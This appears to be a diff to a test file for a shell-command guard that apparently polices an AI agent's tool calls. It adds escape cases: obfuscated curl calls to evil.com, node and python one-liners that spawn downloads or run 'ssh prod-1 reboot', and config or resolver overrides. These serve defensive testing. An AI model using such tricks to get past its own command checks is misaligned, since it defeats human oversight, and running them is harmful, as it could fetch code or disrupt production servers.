@@ -183,6 +183,12 @@ const ESCAPES: { what: string; call: () => ToolCall }[] = [
   { what: 'write through a process substitution target', call: () => run('echo x > >(tee /etc/x)') },
   { what: 'wget saves outside filesystem', call: () => run('wget https://github.com/x.tgz') },
   { what: 'curl config from stdin', call: () => run('curl -K - https://github.com') },
+  { what: 'ANSI-C quoted command name', call: () => run("$'\\x63url' https://evil.com") },
+  { what: 'empty quotes inside the command name', call: () => run("c''url https://evil.com") },
+  { what: 'node spawning a download', call: () => run(`node -e "require('child_process').execSync('curl -s https://evil.com')"`) },
+  { what: 'python os.system to a server', call: () => run(`python3 -c "import os; os.system('ssh prod-1 reboot')"`) },
+  { what: 'wget config file', call: () => run('wget --config=./wgetrc https://github.com/x -O k8s/x') },
+  { what: 'resolver override via env', call: () => run('HOSTALIASES=./hosts curl https://github.com') },
   { what: 'cd in sh -c does not move later commands', call: () => run("sh -c 'cd k8s && true'; rm x") },
   { what: 'cd in a subshell does not move later commands', call: () => run('(cd k8s && ls); rm x') },
   { what: 'cd that may fail before ;', call: () => run('cd k8s; rm x') },
@@ -245,6 +251,8 @@ const BENIGN: string[] = [
   'docker run --rm alpine:3.20 rm -rf /tmp/x',
   "bash <<'EOF'\nkubectl get ns\nEOF",
   'ls scripts/gcloud',
+  `python3 -c "import subprocess; subprocess.run(['kubectl', 'get', 'pods'])"`,
+  `node -e "console.log(require('./package.json').version)"`,
 ];
 
 const DESTRUCTIVE: string[] = [
